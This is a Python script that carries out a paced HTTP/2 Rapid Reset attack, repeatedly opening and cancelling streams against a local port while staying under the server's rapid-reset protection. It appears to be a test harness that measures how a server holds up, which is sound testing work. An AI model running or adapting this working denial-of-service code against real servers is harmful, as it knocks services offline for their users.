"""Paced Rapid Reset: HEADERS, then RST_STREAM at once, stream after stream.

Each stream is opened (HEADERS without END_STREAM, so no request message
ever arrives) and cancelled (RST_STREAM CANCEL) in the same write. The
streams are paced evenly: --rate a second in all, over --connections
connections, for --seconds seconds, slow enough to stay under h2's own
rapid-reset protection (a GOAWAY ENHANCE_YOUR_CALM if it fired is
reported). The connections are otherwise attentive (they read, and
acknowledge SETTINGS and PING), and are closed at the end.

Usage: rapid_reset.py --port PORT [--connections 4] [--rate 300]
                      [--seconds 10] [--ready FILE]
"""

import argparse
import asyncio
import time

import h2raw


async def attack(args):
    block = h2raw.request_block(f"127.0.0.1:{args.port}")
    opening = h2raw.client_opening([(h2raw.SETTINGS_ENABLE_PUSH, 0)])
    conns = [h2raw.Attentive() for _ in range(args.connections)]
    await asyncio.gather(*(c.connect(args.port, opening) for c in conns))
    readers = [asyncio.create_task(c.read_loop()) for c in conns]
    h2raw.mark_ready(args.ready)
    next_id = [1] * len(conns)
    sent = 0
    started = time.monotonic()
    turn = 0
    while True:
        elapsed = time.monotonic() - started
        if elapsed >= args.seconds:
            break
        due = int(elapsed * args.rate) - sent
        for _ in range(max(0, due)):
            i = turn % len(conns)
            turn += 1
            conn = conns[i]
            if conn.closed_at is not None:
                continue
            sid = next_id[i]
            next_id[i] += 2
            conn.write(h2raw.frame(h2raw.HEADERS, h2raw.END_HEADERS, sid, block) + h2raw.rst_stream(sid))
            sent += 1
        await asyncio.gather(*(c.drain() for c in conns), return_exceptions=True)
        await asyncio.sleep(0.01)
    seconds = time.monotonic() - started
    await asyncio.sleep(0.2)  # the server's answers to the last streams
    goaways = [c.goaway for c in conns if c.goaway]
    closed = sum(1 for c in conns if c.closed_at is not None)
    for c in conns:
        c.write(h2raw.goaway())
        c.close()
    for r in readers:
        r.cancel()
    await asyncio.gather(*readers, return_exceptions=True)
    return {
        "connections": len(conns),
        "streams_sent": sent,
        "seconds": round(seconds, 3),
        "goaways": [{"last_stream_id": g[0], "code": g[1]} for g in goaways],
        "connections_closed_by_server": closed,
    }


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--rate", type=float, default=300.0, help="streams a second, in all")
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--ready")
    args = parser.parse_args()
    h2raw.raise_nofile()
    h2raw.report(asyncio.run(attack(args)))


if __name__ == "__main__":
    main()
